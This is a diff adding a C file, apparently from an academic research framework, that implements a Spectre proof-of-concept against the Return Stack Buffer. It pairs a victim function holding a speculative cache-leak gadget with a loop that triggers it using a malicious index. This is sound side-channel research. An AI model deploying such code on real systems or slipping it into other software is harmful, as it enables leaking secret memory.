@@ -0,0 +1,61 @@
+/**
+ * \brief  Spectre RSB-SA.
+ * \author Pierre AYOUB -- IRISA, CNRS
+ * \date   2020
+ *
+ * \details This file contain a Spectre attack targeting the Return Stack
+ *          Buffer, in a same address-space.
+ * \warning Same as the PHT variant: code is weird on purpose, to minimize the
+ *          branch predictor and cache overhead.
+ */
+
+#include <stdio.h>
+#include <string.h>
+#include <stdint.h>
+
+/* Contain ARMv8 or x86-64 implementation of flush, rdtsc and [im]fence. */
+#include "asm.h"
+
+#include "spectre_rsb_sa.h"
+
+/* * Victim code: */
+
+/* ** Private functions: */
+
+/* Function that will be tricked by Spectre. */
+static HOT_PATH HOT_SECTION("victim") void victim_rsb(struct spectre_ctx * ctx, size_t x) {
+    /* Architecturally, return from here. Speculatively, go to the gadget. */
+    ret_mispredict(&ctx->ret_slot, gadget);
+    return;
+gadget:
+    /* Never reached, except speculatively. */
+    ctx->temp &= ctx->array2[ctx->array1[x] * PAGESIZE];
+}
+
+/* * Attack code: */
+
+/* ** Public functions: */
+
+int spectre_rsb_sa_victim_init(struct spectre_ctx * ctx) {
+    if (strcmp(ctx->args.mitigation, "none")) {
+        fprintf(stderr, "Unknown mitigation for the RSB variant: %s\n", ctx->args.mitigation);
+        return 1;
+    }
+    /* The flush is part of the return misprediction, the victim is its own
+       bare version. */
+    ctx->victim = ctx->victim_bare = victim_rsb;
+    return 0;
+}
+
+HOT_PATH HOT_SECTION("probe") void spectre_rsb_sa_attack(struct spectre_ctx * ctx, size_t training_x, size_t malicious_x) {
+    /* i: Count the number of attacks. */
+    int i;
+
+    (void) training_x;
+	/* Execute 30 loops (by default), all of them are attack runs. */
+	for (i = ctx->loops; i >= 0; i--) {
+        /* Don't work if we not wait for completion here. */
+        mfence();
+		victim_rsb(ctx, malicious_x);
+	}
+}